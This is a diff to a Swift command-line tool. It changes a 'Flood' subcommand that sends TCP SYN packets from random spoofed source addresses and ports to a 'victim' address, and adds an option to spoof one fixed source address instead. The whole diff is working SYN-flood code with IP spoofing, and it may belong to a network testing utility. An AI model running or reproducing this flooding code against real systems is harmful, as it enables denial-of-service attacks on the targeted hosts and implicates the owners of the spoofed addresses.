@@ -96,7 +96,7 @@ struct InjectFragments: ParsableCommand {
 
 /// SYNs from ever other addresses and ports.
 struct Flood: ParsableCommand {
-    static let configuration = CommandConfiguration(abstract: "Send SYNs from random addresses.")
+    static let configuration = CommandConfiguration(abstract: "Send SYNs from random addresses, or from one.")
 
     @Argument(help: "Address of the victim.")
     var address: String
@@ -111,7 +111,10 @@ struct Flood: ParsableCommand {
     var seconds = 20.0
 
     @Option(help: "First two bytes of the source addresses, or first four groups for IPv6.")
-    var network: String
+    var network = ""
+
+    @Option(help: "The one source address of all, instead of random ones.")
+    var source: String?
 
     func run() throws {
         let destination = try SocketAddress(address, port: port)
@@ -126,11 +129,11 @@ struct Flood: ParsableCommand {
                 ? "\(number & 0xFF).\(max(1, number >> 8 & 0xFF) % 255)"
                 : ":\(String(number & 0xFFFF, radix: 16)):\(String(number >> 16, radix: 16))"
             let separator = destination.isIPv4 ? "." : ":"
-            let source = try SocketAddress(
-                network + separator + host, port: UInt16.random(in: 1024...UInt16.max, using: &random))
+            let end = try SocketAddress(
+                source ?? network + separator + host, port: UInt16.random(in: 1024...UInt16.max, using: &random))
             try sender.send(
                 .tcp(
-                    from: source, to: destination, sequence: UInt32.random(in: 0...UInt32.max, using: &random),
+                    from: end, to: destination, sequence: UInt32.random(in: 0...UInt32.max, using: &random),
                     acknowledgment: 0, flags: 2))
             sent += 1
             // Others want to run too.
